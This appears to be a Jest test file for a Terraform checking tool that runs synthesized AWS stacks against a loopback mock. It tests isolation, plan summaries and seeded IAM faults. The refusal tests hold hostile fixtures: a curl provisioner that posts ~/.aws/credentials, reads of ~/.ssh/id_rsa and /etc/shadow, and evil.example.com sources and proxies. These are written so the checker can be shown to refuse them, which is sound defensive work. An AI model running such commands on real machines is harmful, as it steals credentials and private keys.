import { spawnSync } from "child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";

// Plain JavaScript helpers of terraform-check.sh (npm run terraform:check).
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { prepareStack, refusals, MAX_STACK_BYTES } = require("../prepare-stack");
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { planLine, changedAttributes, stackRecord } = require("../check-plan");
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { buildSummary, profileComplete, summaryLines } = require("../summary");
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { FAULTS, seed, verdict } = require("../faults");

const ROOT = path.join(__dirname, "..", "..", "..");
const ISOLATION = path.join(ROOT, "packages/terraform-check/isolation.sh");
const MOCK = "http://127.0.0.1:45678";

function synthesizedStack(): Record<string, any> {
  return {
    terraform: {
      backend: { s3: { bucket: "acme-terraform-state", key: "ses-events/ses-events.tfstate", region: "us-east-1" } },
      required_providers: { aws: { source: "aws", version: "6.25.0" } },
    },
    provider: { aws: [{ region: "eu-west-1", default_tags: [{ tags: { Application: "ses-events" } }] }] },
    import: [
      { id: "ses-events", to: "aws_sesv2_configuration_set.Set" },
      { id: "ses-events|firehose", to: "aws_sesv2_configuration_set_event_destination.Destination" },
    ],
    resource: { aws_sesv2_configuration_set: { Set: { configuration_set_name: "ses-events" } } },
  };
}

const OPTIONS = { mockUrl: MOCK, providerVersion: "6.47.1", endpointNames: ["firehose", "iam", "s3", "sesv2", "sts"] };

describe("the stack copy the real Terraform runs on", () => {
  it("points every endpoint at the mock and keeps the provider off the network", () => {
    const { copy } = prepareStack(synthesizedStack(), OPTIONS);
    expect(copy.provider.aws).toEqual([
      {
        region: "eu-west-1",
        default_tags: [{ tags: { Application: "ses-events" } }],
        skip_credentials_validation: true,
        skip_requesting_account_id: true,
        skip_metadata_api_check: true,
        skip_region_validation: true,
        s3_use_path_style: true,
        max_retries: 2,
        endpoints: [{ firehose: MOCK, iam: MOCK, s3: MOCK, sesv2: MOCK, sts: MOCK }],
      },
    ]);
  });

  it("rewrites the provider version and the backend, and says so", () => {
    const { copy, notes } = prepareStack(synthesizedStack(), OPTIONS);
    expect(copy.terraform.required_providers.aws).toEqual({ source: "aws", version: "6.47.1" });
    expect(copy.terraform.backend).toEqual({ local: { path: "terraform.tfstate" } });
    expect(notes).toContain('required_providers.aws.version "6.25.0" -> "6.47.1" (the provider that was built)');
    expect(notes).toContain("backend s3 -> local state in the working directory");
  });

  it("leaves out allowed_account_ids, which the provider cannot check with the account lookup skipped, and says so", () => {
    const stack = synthesizedStack();
    stack.provider.aws[0].allowed_account_ids = ["111122223333"];
    const { copy, notes } = prepareStack(stack, OPTIONS);
    expect(copy.provider.aws[0]).not.toHaveProperty("allowed_account_ids");
    expect(notes).toContain('aws provider: allowed_account_ids ["111122223333"] left out: the account lookup is skipped against the mock');
  });

  it("leaves out the imports the mock cannot serve, naming each", () => {
    const { copy, notes } = prepareStack(synthesizedStack(), {
      ...OPTIONS,
      noImportTypes: ["aws_sesv2_configuration_set_event_destination"],
    });
    expect(copy.import).toEqual([{ id: "ses-events", to: "aws_sesv2_configuration_set.Set" }]);
    expect(notes).toContain(
      "import of aws_sesv2_configuration_set_event_destination.Destination left out: the mock cannot serve aws_sesv2_configuration_set_event_destination",
    );
  });

  it("never modifies what was synthesized", () => {
    const stack = synthesizedStack();
    const before = JSON.stringify(stack);
    prepareStack(stack, { ...OPTIONS, noImportTypes: ["aws_sesv2_configuration_set_event_destination"] });
    expect(JSON.stringify(stack)).toBe(before);
  });

  it.each([
    ["https://sts.amazonaws.com", "a real endpoint"],
    ["http://127.0.0.1.example.com:4566", "a look-alike host"],
    ["http://localhost:4566", "a name to resolve"],
    ["", "nothing"],
  ])("refuses the mock URL %j (%s)", (mockUrl) => {
    expect(() => prepareStack(synthesizedStack(), { ...OPTIONS, mockUrl })).toThrow(
      `mock URL ${JSON.stringify(mockUrl)} is not http://127.0.0.1:PORT: the mock runs on loopback only`,
    );
  });

  it.each(["access_key", "profile", "assume_role"])("refuses a provider block that sets %s", (key) => {
    const stack = synthesizedStack();
    stack.provider.aws[0][key] = "x";
    expect(() => prepareStack(stack, OPTIONS)).toThrow(`the aws provider block sets ${key}: credentials must come from the environment`);
  });

  it.each([null, [], "stack"])("refuses a stack that is %j", (stack) => {
    expect(() => prepareStack(stack, OPTIONS)).toThrow("the stack is not a JSON object");
  });
});

// A stack given with --stack may come from a pull request or a stranger: what Terraform would run,
// fetch or read on this machine besides the AWS provider against the mock is refused, before
// Terraform starts, naming what and where.
describe("the stacks the check refuses to run", () => {
  function refusedFor(edit: (stack: Record<string, any>) => void): string[] {
    const stack = synthesizedStack();
    edit(stack);
    return refusals(stack);
  }

  it("runs every stack the app synthesizes", () => {
    const dir = path.join(ROOT, "__tests__/fixtures/synth");
    const files = ["default/ses-events.json", "all-options/ses-events.json", "multi-environment/production.json", "multi-environment/staging.json"];
    expect(files.map((file) => refusals(JSON.parse(readFileSync(path.join(dir, file), "utf8"))))).toEqual([[], [], [], []]);
  });

  it("refuses a local-exec provisioner, naming the resource, and throws before writing a copy", () => {
    const stack = synthesizedStack();
    stack.resource.aws_sesv2_configuration_set.Set.provisioner = [{ "local-exec": { command: "curl -d @$HOME/.aws/credentials x" } }];
    expect(() => prepareStack(stack, OPTIONS)).toThrow(
      "the stack is refused, nothing of it was run:\n  - aws_sesv2_configuration_set.Set: provisioner local-exec: provisioners and connections are not run: they run commands on this machine or reach other hosts",
    );
  });

  it("refuses a provisioner in a resource written as an array of blocks, and a connection", () => {
    expect(
      refusedFor((stack) => {
        stack.resource = [{ aws_s3_bucket: { B: [{ bucket: "b", connection: { host: "evil.example.com", type: "ssh" }, provisioner: { "remote-exec": {} } }] } }];
      }),
    ).toEqual([
      "aws_s3_bucket.B: provisioner remote-exec: provisioners and connections are not run: they run commands on this machine or reach other hosts",
      "aws_s3_bucket.B: connection: provisioners and connections are not run: they run commands on this machine or reach other hosts",
    ]);
  });

  it("refuses terraform_data, null_resource and the external and remote-state data sources", () => {
    expect(
      refusedFor((stack) => {
        stack.resource.terraform_data = { Run: { input: "x" } };
        stack.resource.null_resource = { Run: {} };
        stack.data = { external: { Read: { program: ["sh", "-c", "cat ~/.ssh/id_rsa"] } }, terraform_remote_state: { S: { backend: "local" } } };
      }),
    ).toEqual([
      "terraform_data: only aws_ resources run (the hashicorp/aws provider's)",
      "null_resource: only aws_ resources run (the hashicorp/aws provider's)",
      "data.external: only aws_ data sources run (the hashicorp/aws provider's)",
      "data.terraform_remote_state: only aws_ data sources run (the hashicorp/aws provider's)",
    ]);
  });

  it("refuses another provider, and hashicorp/aws from another source", () => {
    expect(
      refusedFor((stack) => {
        stack.terraform.required_providers.local = { source: "hashicorp/local" };
        stack.terraform.required_providers.http = "hashicorp/http";
        stack.provider.local = [{}];
      }),
    ).toEqual([
      'terraform.required_providers.local (source "hashicorp/local"): only the hashicorp/aws provider runs: no other provider is installed',
      'terraform.required_providers.http (source "hashicorp/http"): only the hashicorp/aws provider runs: no other provider is installed',
      "provider.local: only the hashicorp/aws provider runs",
    ]);
    expect(refusedFor((stack) => (stack.terraform.required_providers.aws.source = "evil.example.com/hashicorp/aws"))).toEqual([
      'terraform.required_providers.aws: source "evil.example.com/hashicorp/aws" is not hashicorp/aws: use one of aws, hashicorp/aws, registry.terraform.io/hashicorp/aws',
    ]);
    expect(refusedFor((stack) => (stack.terraform.required_providers.aws.source = "registry.terraform.io/HashiCorp/AWS"))).toEqual([]);
  });

  it("refuses a count or for_each it cannot count before Terraform starts, or of more instances than it runs", () => {
    expect(
      refusedFor((stack) => {
        stack.resource.aws_sesv2_configuration_set.Set.count = 10_000_000;
        stack.resource.aws_s3_bucket = { Many: { count: "${pow(10, 7)}" }, Each: { for_each: "${toset(range(1000))}" }, Big: { for_each: Array.from({ length: 101 }, (_, i) => `b${i}`) } };
        stack.data = { aws_iam_policy_document: { Doc: [{ count: 2.5 }, { for_each: { a: "1" }, count: -1 }] } };
      }),
    ).toEqual([
      "aws_sesv2_configuration_set.Set: count 10000000: use a whole number from 0 to 100",
      'aws_s3_bucket.Many: count "${pow(10, 7)}": only a literal whole number from 0 to 100 runs, not an expression: the check counts a stack\'s instances before Terraform starts',
      'aws_s3_bucket.Each: for_each "${toset(range(1000))}": only a literal list or map of at most 100 entries runs, not an expression: the check counts a stack\'s instances before Terraform starts',
      "aws_s3_bucket.Big: for_each with 101 entries: use at most 100",
      "data.aws_iam_policy_document.Doc: count 2.5: use a whole number from 0 to 100",
      "data.aws_iam_policy_document.Doc: count -1: use a whole number from 0 to 100",
    ]);
    expect(
      refusedFor((stack) => {
        stack.resource.aws_sesv2_configuration_set.Set.count = 100;
        stack.resource.aws_s3_bucket = { Each: { for_each: { a: "x", b: "y" } }, None: { count: 0 } };
      }),
    ).toEqual([]);
  });

  it("refuses more instances in all than it runs, dynamic blocks at any depth, an import's for_each expression and nested for expressions", () => {
    expect(
      refusedFor((stack) => {
        stack.resource.aws_s3_bucket = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`B${i}`, { count: 100 }]));
      }),
    ).toEqual(["the stack has 1101 resource and data source instances: the check runs at most 1000"]);
    expect(
      refusedFor((stack) => {
        stack.resource.aws_s3_bucket_lifecycle_configuration = { L: { bucket: "b", rule: [{ id: "x", dynamic: { filter: { for_each: "${range(1000)}", content: {} } } }] } };
        stack.import = [{ to: "aws_s3_bucket.B", id: "b", for_each: "${toset(range(100000))}" }];
        stack.locals = { x: "${flatten([for a in range(1024): [for b in range(1024): a * b]])}", y: "${[for a in range(3): a]}" };
      }),
    ).toEqual([
      "aws_s3_bucket_lifecycle_configuration.L.rule[0].dynamic: dynamic blocks are not run: their for_each can make any number of nested blocks",
      'import[0]: for_each "${toset(range(100000))}": only a literal list or map of at most 100 entries runs, not an expression: the check counts a stack\'s instances before Terraform starts',
      'locals.x: "${flatten([for a in range(1024): [for b in range(1024): a * b]])}" holds 2 for expressions: not run: nested, they multiply into more values than the machine holds',
    ]);
  });

  it("refuses a resource handed to another provider", () => {
    expect(refusedFor((stack) => (stack.resource.aws_sesv2_configuration_set.Set.provider = "evil"))).toEqual([
      'aws_sesv2_configuration_set.Set: provider "evil": only the aws provider (aws or aws.ALIAS) runs',
    ]);
    expect(refusedFor((stack) => (stack.resource.aws_sesv2_configuration_set.Set.provider = "aws.replica"))).toEqual([]);
  });

  it("refuses modules from any source, naming the source", () => {
    expect(
      refusedFor((stack) => {
        stack.module = { Git: { source: "git::ssh://git@example.com/evil.git" }, Local: [{ source: "../../../elsewhere" }] };
      }),
    ).toEqual([
      'module.Git (source "git::ssh://git@example.com/evil.git"): modules are not run: Terraform would fetch and run code from their source',
      'module.Local (source "../../../elsewhere"): modules are not run: Terraform would fetch and run code from their source',
    ]);
  });

  it("refuses the blocks that run or read outside the resources (check, removed, ephemeral, action)", () => {
    expect(
      refusedFor((stack) => {
        stack.removed = [{ from: "aws_s3_bucket.B", provisioner: [{ "local-exec": { when: "destroy", command: "x" } }] }];
        stack.action = { local_command: { Run: {} } };
      }),
    ).toEqual([
      'removed: a "removed" block is not run: the check runs only terraform, provider, resource, data, output, locals, variable, import, moved',
      'action: a "action" block is not run: the check runs only terraform, provider, resource, data, output, locals, variable, import, moved',
    ]);
  });

  it("refuses terraform settings beyond the providers, the version and the backend, and a terraform block as a list", () => {
    expect(refusedFor((stack) => (stack.terraform.provider_meta = { aws: {} }))).toEqual([
      "terraform.provider_meta: not run: the check allows only required_providers, required_version, backend, cloud there",
    ]);
    expect(refusedFor((stack) => (stack.terraform = [stack.terraform, { backend: { http: { address: "https://evil.example.com" } } }]))).toEqual([
      "terraform: must be one object (the check rewrites its provider version and backend)",
    ]);
  });

  it("replaces any backend with local state, so no backend is ever contacted", () => {
    const stack = synthesizedStack();
    stack.terraform.backend = { http: { address: "https://evil.example.com/state" } };
    stack.terraform.cloud = { organization: "evil" };
    const { copy } = prepareStack(stack, OPTIONS);
    expect(copy.terraform).toEqual({ required_providers: { aws: { source: "aws", version: "6.47.1" } }, backend: { local: { path: "terraform.tfstate" } } });
  });

  it.each(["http_proxy", "https_proxy", "no_proxy", "custom_ca_bundle", "insecure", "ec2_metadata_service_endpoint"])(
    "refuses an aws provider block that sets %s",
    (key) => {
      expect(refusedFor((stack) => (stack.provider.aws[0][key] = "http://evil.example.com:3128"))).toEqual([
        `provider.aws[0].${key}: not allowed: the check sets how the provider reaches the mock; allowed: alias, region, default_tags, ignore_tags, allowed_account_ids, retry_mode, user_agent, s3_us_east_1_regional_endpoint, use_fips_endpoint, use_dualstack_endpoint, token_bucket_rate_limiter_capacity, skip_credentials_validation, skip_requesting_account_id, skip_metadata_api_check, skip_region_validation, s3_use_path_style, max_retries, endpoints`,
      ]);
    },
  );

  it("refuses a template that reads this machine's files, in a value or a key, with core:: or comments", () => {
    expect(
      refusedFor((stack) => {
        stack.resource.aws_sesv2_configuration_set.Set.configuration_set_name = '${file("~/.aws/credentials")}';
        stack.locals = { key: '%{ for l in fileset("/", "**") }${l}%{ endfor }', tags: { '${core::filebase64 /* x */ ("/etc/shadow")}': "v" } };
      }),
    ).toEqual([
      'resource.aws_sesv2_configuration_set.Set.configuration_set_name: "${file(\\"~/.aws/credentials\\")}" calls file(), which reads this machine\'s files: not run',
      'locals.key: "%{ for l in fileset(\\"/\\", \\"**\\") }" calls fileset(), which reads this machine\'s files: not run',
      'locals.tags (a key): "${core::filebase64 /* x */ (\\"/etc/shadow\\")}" calls filebase64(), which reads this machine\'s files: not run',
    ]);
  });

  it("reads the word file in literal text and in references as what they are", () => {
    expect(
      refusedFor((stack) => {
        stack.resource.aws_sesv2_configuration_set.Set.configuration_set_name = "file (${aws_s3_object.file.key}) $${file(x)}";
      }),
    ).toEqual([]);
  });

  it("runs nothing of a stack it refuses from the command line, and names the file when it is too large or not JSON", () => {
    const dir = mkdtempSync(path.join(tmpdir(), "refused-"));
    const script = path.join(ROOT, "packages/terraform-check/prepare-stack.js");
    const write = (text: string) => require("fs").writeFileSync(path.join(dir, "cdk.tf.json"), text);
    const check = () => spawnSync("node", [script, "--check", path.join(dir, "cdk.tf.json")], { encoding: "utf8" });
    const stack = synthesizedStack();
    stack.data = { external: { X: { program: ["id"] } } };
    write(JSON.stringify(stack));
    expect(check()).toMatchObject({
      status: 2,
      stderr: "terraform-check: error: prepare-stack: the stack is refused, nothing of it was run:\n  - data.external: only aws_ data sources run (the hashicorp/aws provider's)\n",
    });
    write("root:x:0:0:root:/root:/bin/bash\n");
    expect(check().stderr).toBe(`terraform-check: error: prepare-stack: ${path.join(dir, "cdk.tf.json")} is not JSON\n`);
    write(" ".repeat(MAX_STACK_BYTES + 1));
    expect(check().stderr).toBe(
      `terraform-check: error: prepare-stack: ${path.join(dir, "cdk.tf.json")} has ${MAX_STACK_BYTES + 1} bytes: the check reads a stack of at most ${MAX_STACK_BYTES} bytes (a synthesized one has about 60 kB)\n`,
    );
    write(JSON.stringify(synthesizedStack()));
    expect(check()).toMatchObject({ status: 0, stderr: "" });
  });
});

/** Runs `script` in bash with isolation.sh sourced; returns stdout, stderr, status, seconds. */
function bash(script: string, env: Record<string, string> = {}) {
  const started = Date.now();
  const result = spawnSync("bash", ["-c", `set -euo pipefail; die() { echo "die: $*" >&2; exit 2; }; source "${ISOLATION}"; ${script}`], {
    encoding: "utf8",
    env: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "", ...env },
    timeout: 30_000,
  });
  return { ...result, seconds: (Date.now() - started) / 1000 };
}

describe("the check's isolated environment", () => {
  it("sends every request that is not for the mock to a closed loopback proxy", () => {
    const { stdout, status } = bash("run_isolated /tmp/terraformrc env", {
      AWS_PROFILE: "production",
      AWS_SESSION_TOKEN: "real-token",
      HTTPS_PROXY: "http://corporate-proxy:3128",
      TF_TOKEN_app_terraform_io: "secret",
    });
    expect(status).toBe(0);
    const vars = Object.fromEntries(stdout.trim().split("\n").map((line) => line.split(/=(.*)/s).slice(0, 2)));
    expect(vars.HTTPS_PROXY).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    expect(vars.HTTP_PROXY).toBe(vars.HTTPS_PROXY);
    expect(vars.NO_PROXY).toBe("127.0.0.1");
    expect(vars.AWS_EC2_METADATA_DISABLED).toBe("true");
    expect(vars.AWS_CONFIG_FILE).toBe("/dev/null");
    expect(vars.TF_CLI_CONFIG_FILE).toBe("/tmp/terraformrc");
    expect(vars).not.toHaveProperty("AWS_PROFILE");
    expect(vars).not.toHaveProperty("AWS_SESSION_TOKEN");
    expect(vars).not.toHaveProperty("TF_TOKEN_app_terraform_io");
  });

  it("makes a stray HTTPS request fail at once with a refused connection, without a DNS lookup", () => {
    // curl honours https_proxy like the Go and Python clients of the check: the name is never
    // resolved locally (the proxy would do that), and the proxy port refuses the connection.
    const { stderr, status, seconds } = bash(
      "run_isolated /dev/null curl --silent --show-error --max-time 20 https://sts.amazonaws.com/",
    );
    expect(status).toBe(7); // CURLE_COULDNT_CONNECT: to the proxy, not to AWS
    expect(stderr).toMatch(/^curl: \(7\) Failed to connect to 127\.0\.0\.1 port \d+ after \d+ ms: (Couldn't connect to server|Connection refused)$/m);
    expect(seconds).toBeLessThan(5);
  });
});

describe("--update-fixtures", () => {
  const run = (...args: string[]) =>
    spawnSync("bash", [path.join(ROOT, "packages/terraform-check/terraform-check.sh"), ...args], { cwd: ROOT, encoding: "utf8", timeout: 30_000 });

  it.each([["--profile", "json"], ["--toolchain", "cdktn"], ["--all"]])("refuses %s before anything runs: it picks its own runs", (...extra) => {
    const result = run("--update-fixtures", ...extra);
    expect(result.status).toBe(2);
    expect(result.stderr).toBe("terraform-check: error: --update-fixtures runs the default and all-options profiles on cdktf itself: leave out --all, --profile and --toolchain\n");
  });

  it("writes only a fixture it knows, named exactly", () => {
    const result = run("--update-fixture", "Destroy");
    expect(result.status).toBe(2);
    expect(result.stderr).toBe("terraform-check: error: --update-fixture 'Destroy': use one of create update-in-place replace iam-change import destroy\n");
  });

  // A missing value used to end the run with status 1 and no word, or to start a full run.
  it.each([["--update-fixture"], ["--update-fixture", "--keep"], ["--update-fixture", ""], ["--terraform", ""], ["--profile"], ["--stack"], ["--toolchain"]])(
    "refuses %s without its value, with the usage",
    (...args) => {
      const result = run(...args);
      expect(result.status).toBe(2);
      expect(result.stderr).toMatch(new RegExp(`^terraform-check: error: ${args[0]} takes a value\nterraform-check: error: usage: npm run terraform:check .*\\[--terraform 1\\.11\\.4\\|1\\.16\\.4\\]`));
    },
  );
});

// One folder per Terraform version the check runs (terraform-build.sh), each written by that version.
describe.each(["1.11.4", "1.16.4"])("the saved real plans of Terraform %s", (version) => {
  const dir = path.join(ROOT, "packages/plan-summary/__tests__/fixtures/plans/real", version);
  const read = (name: string) => JSON.parse(readFileSync(path.join(dir, `${name}.json`), "utf8"));

  it("are the plans of a version the check runs", () => {
    const build = readFileSync(path.join(ROOT, "packages/terraform-check/terraform-build.sh"), "utf8");
    const versions = [...build.matchAll(/^TERRAFORM_(?:OLDEST|NEWEST)="([^"]+)"$/gm)].map((match) => match[1]);
    expect(versions).toEqual(["1.11.4", "1.16.4"]);
    expect(versions).toContain(version);
  });

  it.each(["create", "update-in-place", "replace", "iam-change", "import", "destroy"])("include %s.json, written by Terraform", (name) => {
    expect(existsSync(path.join(dir, `${name}.json`))).toBe(true);
    const plan = read(name);
    expect(plan.terraform_version).toBe(version);
    expect(plan.format_version).toMatch(/^1\./);
    expect(JSON.stringify(plan)).not.toContain(ROOT);
  });

  it("count the way Terraform's Plan: line does", () => {
    expect(planLine(read("destroy"))).toMatch(/^Plan: 0 to add, 0 to change, \d+ to destroy\.$/);
    expect(planLine(read("import"))).toMatch(/^Plan: \d+ to import, \d+ to add, \d+ to change, 0 to destroy\.$/);
  });

  it("name the attribute that forces the replacement", () => {
    const stream = read("replace").resource_changes.find((rc: any) => rc.type === "aws_kinesis_firehose_delivery_stream");
    expect(stream.change.actions).toEqual(["delete", "create"]);
    expect(stream.change.replace_paths).toEqual([
      ["extended_s3_configuration", 0, "dynamic_partitioning_configuration"],
      ["extended_s3_configuration", 0, "dynamic_partitioning_configuration", 0, "enabled"],
    ]);
  });

  it("show the role policy statement change", () => {
    const policy = read("iam-change").resource_changes.find((rc: any) => rc.address.includes("DeliveryRolePolicy"));
    expect(policy.change.actions).toEqual(["update"]);
    expect(changedAttributes(policy.change)).toEqual(["policy"]);
  });
});

describe("the check's summary.json", () => {
  const change = (address: string, actions: string[], before: object | null = null, after: object | null = {}) => ({
    address,
    mode: "managed",
    type: address.split(".")[0],
    change: { actions, before, after, after_unknown: {} },
  });
  const createPlan = { resource_changes: [change("aws_s3_bucket.Bucket", ["create"]), change("aws_iam_role.Role", ["create"])] };
  const state = { values: { root_module: { resources: [{ address: "aws_s3_bucket.Bucket", mode: "managed" }] } } };
  const afterPlan = {
    resource_changes: [change("aws_s3_bucket.Bucket", ["no-op"], {}, {}), change("aws_iam_role.Role", ["create"])],
  };

  it("counts a stack's planned and applied resources and names what was not applied", () => {
    expect(stackRecord(createPlan, state, afterPlan)).toEqual({
      planned: 2,
      applied: 1,
      notApplied: [{ address: "aws_iam_role.Role", reason: "not in the state after apply" }],
      postApplyChanges: 1,
      excluded: [],
    });
  });

  it("has exactly the fields of its interface, and adds up the stacks of a profile", () => {
    const record = { planned: 25, applied: 25, notApplied: [], postApplyChanges: 0, excluded: [] };
    const summary = buildSummary({
      provider: "hashicorp/aws 6.47.1",
      emulator: "ministack 1.5.33 for every service",
      stacks: [
        { profile: "default", record },
        { profile: "multi-environment", record },
        { profile: "multi-environment", record },
      ],
      eventFlow: {
        eventFlow: { recordsPut: 10, objectsWritten: 10, eventTypesLanded: ["Bounce"], problems: [] },
        iam: { allowedAsExpected: 5, deniedAsExpected: 7, unexpected: [] },
      },
      queries: { queriesChecked: 5, queriesMatched: 5 },
      faults: [{ name: "disabled-destination", caught: true, by: "ses: no enabled event destination ...", extra: 1 }],
    });
    expect(Object.keys(summary)).toEqual(["provider", "emulator", "profiles", "eventFlow", "iam", "faults"]);
    expect(summary.faults).toEqual([{ name: "disabled-destination", caught: true, by: "ses: no enabled event destination ..." }]);
    expect(summary.profiles["multi-environment"]).toEqual({ planned: 50, applied: 50, notApplied: [], postApplyChanges: 0, excluded: [] });
    expect(Object.keys(summary.eventFlow)).toEqual([
      "recordsPut",
      "objectsWritten",
      "eventTypesLanded",
      "queriesChecked",
      "queriesMatched",
      "accountsLanded",
      "regionsLanded",
      "lakeWriters",
    ]);
    expect(summary.iam).toEqual({ allowedAsExpected: 5, deniedAsExpected: 7, unexpected: [] });
    expect(summaryLines(summary)[1]).toBe("default: planned 25, applied 25, not applied 0, post-apply changes 0, excluded 0");
  });

  it("adds the organization's events, queries and probes, and lists the accounts and Regions that landed", () => {
    const summary = buildSummary({
      provider: "p",
      emulator: "e",
      stacks: [],
      eventFlow: {
        eventFlow: { recordsPut: 10, objectsWritten: 10, eventTypesLanded: ["Bounce"], problems: [] },
        iam: { allowedAsExpected: 5, deniedAsExpected: 7, unexpected: [] },
      },
      queries: { queriesChecked: 5, queriesMatched: 5 },
      organization: {
        eventFlow: {
          recordsPut: 30,
          objectsWritten: 21,
          eventTypesLanded: ["Send", "Bounce"],
          accountsLanded: ["222222222222", "333333333333"],
          regionsLanded: ["eu-west-1", "us-east-1"],
          problems: [],
        },
        iam: { allowedAsExpected: 4, deniedAsExpected: 6, unexpected: ["x"] },
        lakeWriters: ["accounts 222222222222, 333333333333", "organization o-abcdef0123"],
      },
      organizationQueries: { queriesChecked: 5, queriesMatched: 4 },
    });
    expect(summary.eventFlow).toEqual({
      recordsPut: 40,
      objectsWritten: 31,
      eventTypesLanded: ["Bounce", "Send"],
      queriesChecked: 10,
      queriesMatched: 9,
      accountsLanded: ["222222222222", "333333333333"],
      regionsLanded: ["eu-west-1", "us-east-1"],
      lakeWriters: ["accounts 222222222222, 333333333333", "organization o-abcdef0123"],
    });
    expect(summary.iam).toEqual({ allowedAsExpected: 9, deniedAsExpected: 13, unexpected: ["x"] });
    expect(summaryLines(summary).find((line: string) => line.startsWith("events:"))).toBe(
      "events: 40 records put, 31 objects written, 2 event types landed, queries 9/10 matched, accounts landed 2, Regions landed 2, lakes written by accounts 222222222222, 333333333333; organization o-abcdef0123",
    );
  });

  it("adds up the organization runs' results (merge_organization), listing whom each lake let write", () => {
    const scratch = mkdtempSync(path.join(tmpdir(), "org-merge-"));
    const run = (name: string, writers: string, accounts: string[], unexpected: string[]) => {
      const dir = path.join(scratch, name);
      mkdirSync(dir);
      const flow = { recordsPut: 10, objectsWritten: 4, eventTypesLanded: ["Send"], accountsLanded: accounts, regionsLanded: ["us-east-1"], scopesLanded: accounts.map((a) => `${a}/us-east-1`), problems: [] };
      writeFileSync(path.join(dir, "organization.json"), JSON.stringify({ lakeWriters: writers, eventFlow: flow, iam: { allowedAsExpected: 2, deniedAsExpected: 3, unexpected } }));
      writeFileSync(path.join(dir, "organization-queries.json"), JSON.stringify({ queriesChecked: 5, queriesMatched: 5 }));
      return dir;
    };
    const merge = (dir: string) =>
      spawnSync("bash", ["-c", `SCRATCH="$1"; source packages/terraform-check/organization.sh; merge_organization "$2"`, "merge", scratch, dir], { cwd: ROOT, encoding: "utf8" });
    expect(merge(run("organization", "accounts 222222222222", ["222222222222"], [])).status).toBe(0);
    expect(merge(run("cdktn-organization-id", "organization o-abcdef0123", ["333333333333"], ["x"])).status).toBe(0);
    const merged = JSON.parse(readFileSync(path.join(scratch, "organization.json"), "utf8"));
    expect(merged.lakeWriters).toEqual(["accounts 222222222222", "organization o-abcdef0123"]);
    expect(merged.eventFlow).toMatchObject({ recordsPut: 20, objectsWritten: 8, accountsLanded: ["222222222222", "333333333333"], eventTypesLanded: ["Send"] });
    expect(merged.iam).toEqual({ allowedAsExpected: 4, deniedAsExpected: 6, unexpected: ["x"] });
    expect(JSON.parse(readFileSync(path.join(scratch, "organization-queries.json"), "utf8"))).toEqual({ queriesChecked: 10, queriesMatched: 10 });
  });

  it("calls a profile incomplete when anything was left out, changed after apply or excluded", () => {
    const whole = { planned: 2, applied: 2, notApplied: [], postApplyChanges: 0, excluded: [] };
    expect(profileComplete(whole)).toBe(true);
    expect(profileComplete({ ...whole, postApplyChanges: 1 })).toBe(false);
    expect(profileComplete({ ...whole, excluded: [{ address: "a", attribute: "b", evidence: "c" }] })).toBe(false);
    expect(profileComplete({ ...whole, applied: 1, notApplied: [{ address: "a", reason: "r" }] })).toBe(false);
  });
});

describe("the check's summary of the seeded faults", () => {
  const base = { provider: "p", emulator: "e", stacks: [], eventFlow: undefined, queries: undefined };

  it("is an empty list when no fault was seeded", () => {
    expect(buildSummary(base).faults).toEqual([]);
    expect(summaryLines(buildSummary(base)).some((line: string) => line.startsWith("faults"))).toBe(false);
  });

  it("names the faults that were not caught", () => {
    const faults = [
      { name: "a", caught: true, by: "ses: x" },
      { name: "b", caught: false, by: "not caught by iam (failed: nothing)" },
    ];
    expect(summaryLines(buildSummary({ ...base, faults })).at(-1)).toBe("faults: 1 of 2 caught (NOT CAUGHT: b)");
  });
});

describe("the faults seeded into the default stack", () => {
  let stack: Record<string, any>;
  beforeAll(() => {
    const out = mkdtempSync(path.join(tmpdir(), "faults-"));
    const context = JSON.parse(readFileSync(path.join(ROOT, "cdktf.json"), "utf8")).context;
    const run = spawnSync("node", ["scripts/app.js"], {
      cwd: ROOT,
      encoding: "utf8",
      env: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "", CHECKPOINT_DISABLE: "1", CDKTF_CONTEXT_JSON: JSON.stringify(context), CDKTF_OUTDIR: out },
    });
    if (run.status !== 0) throw new Error(run.stderr);
    stack = JSON.parse(readFileSync(path.join(out, "stacks/ses-events/cdk.tf.json"), "utf8"));
  }, 60_000);
  const resources = (s: Record<string, any>, type: string) => Object.values(s.resource[type]) as any[];
  const sesRole = (s: Record<string, any>) => resources(s, "aws_iam_role").find((r) => r.assume_role_policy.includes("ses.amazonaws.com"));

  it("are the nine the check must catch, each naming its check", () => {
    expect(Object.fromEntries(Object.entries(FAULTS).map(([name, f]: [string, any]) => [name, f.catches]))).toEqual({
      "delivery-role-without-put-object": "delivery",
      "bucket-policy-denies-delivery-role": "delivery",
      "ses-trust-without-conditions": "iam",
      "delivery-trust-for-another-service": "delivery",
      "ses-role-limited-to-another-stream": "ses",
      "disabled-destination": "ses",
      "destination-names-wrong-role": "ses",
      "events-partitioned-by-wrong-field": "events",
      "table-reads-wrong-prefix": "queries",
    });
  });

  it("each change the stack, and only a copy of it", () => {
    const before = JSON.stringify(stack);
    for (const name of Object.keys(FAULTS)) expect(JSON.stringify(seed(name, stack))).not.toBe(before);
    expect(JSON.stringify(stack)).toBe(before);
  });

  it("take s3:PutObject out of the delivery role's policy", () => {
    const seeded = seed("delivery-role-without-put-object", stack);
    const policy = resources(seeded, "aws_iam_role_policy").find((p) => p.policy.includes("WriteEventObjects"));
    const actions = JSON.parse(policy.policy).Statement.flatMap((st: any) => st.Action);
    expect(actions).not.toContain("s3:PutObject");
    expect(actions).toContain("s3:GetObject");
  });

  it("deny the delivery role in the bucket policy", () => {
    const policy = JSON.parse(resources(seed("bucket-policy-denies-delivery-role", stack), "aws_s3_bucket_policy")[0].policy);
    expect(policy.Statement.at(-1)).toEqual({
      Sid: "DenyDeliveryRole",
      Effect: "Deny",
      Principal: { AWS: expect.stringMatching(/^\$\{aws_iam_role\.SesEvents_DeliveryRole_\w+\.arn\}$/) },
      Action: "s3:PutObject",
      Resource: expect.stringMatching(/^\$\{aws_s3_bucket\.SesEvents_Bucket_\w+\.arn\}\/\*$/),
    });
  });

